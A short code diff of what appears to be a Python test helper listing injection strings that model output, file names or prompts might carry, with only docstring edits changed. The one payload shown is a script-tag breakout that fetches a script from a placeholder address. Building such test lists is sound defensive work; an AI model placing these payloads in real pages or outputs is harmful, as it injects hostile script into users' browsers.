@@ -1,4 +1,4 @@
-"""What a model, a file's name or a user's prompt may hold to take over whoever looks at it."""
+"""Attacks that a model's text, a file name or a prompt may contain."""
 
 ATTACKS = (
     "</script><script>pwned=1;fetch('{url}/script')</script>",
@@ -21,5 +21,5 @@ ATTACKS = (
 
 
 def attacks(url: str = "http://example.com") -> list[str]:
-    """All of them, calling at this address."""
+    """All attacks; those that load something load it from this address."""
     return [attack.replace("{url}", url) for attack in ATTACKS]
